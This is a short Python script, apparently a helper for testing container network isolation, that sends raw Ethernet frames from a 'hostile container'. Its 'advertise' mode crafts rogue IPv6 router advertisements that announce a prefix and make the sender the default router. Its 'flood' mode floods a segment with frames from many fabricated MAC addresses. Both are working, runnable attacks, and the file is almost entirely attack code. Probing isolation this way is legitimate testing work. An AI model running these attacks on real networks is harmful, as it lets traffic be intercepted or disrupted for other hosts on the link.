# SPDX-License-Identifier: MIT
"""What a hostile container sends to its neighbours.

hostile.py advertise INTERFACE    router advertisements: a prefix, and itself as the way out
hostile.py flood INTERFACE COUNT  frames of so many MAC addresses
"""
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack(f'>{len(data) // 2}H', data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def advertise(sock, mac):
    source = socket.inet_pton(socket.AF_INET6, 'fe80::bad')
    everyone = socket.inet_pton(socket.AF_INET6, 'ff02::1')
    prefix = struct.pack('>BBBBIII', 3, 4, 64, 0xc0, 86400, 86400, 0) + socket.inet_pton(socket.AF_INET6, '2001:db8:bad::')
    options = b'\1\1' + mac + prefix
    body = struct.pack('>BBHBBHII', 134, 0, 0, 64, 0, 1800, 0, 0) + options
    total = checksum(source + everyone + struct.pack('>II', len(body), 58) + body)
    body = body[:2] + struct.pack('>H', total) + body[4:]
    ip = struct.pack('>IHBB', 0x60000000, len(body), 58, 255) + source + everyone
    sock.send(b'\x33\x33\0\0\0\1' + mac + b'\x86\xdd' + ip + body)


def flood(sock, count):
    for number in range(count):
        sock.send(b'\xff' * 6 + b'\x02\xbd' + struct.pack('>I', number) + b'\x88\xb5' + bytes(46))


def main():
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((sys.argv[2], 0))
    if sys.argv[1] == 'advertise':
        advertise(sock, sock.getsockname()[4])
    else:
        flood(sock, int(sys.argv[3]))


main()
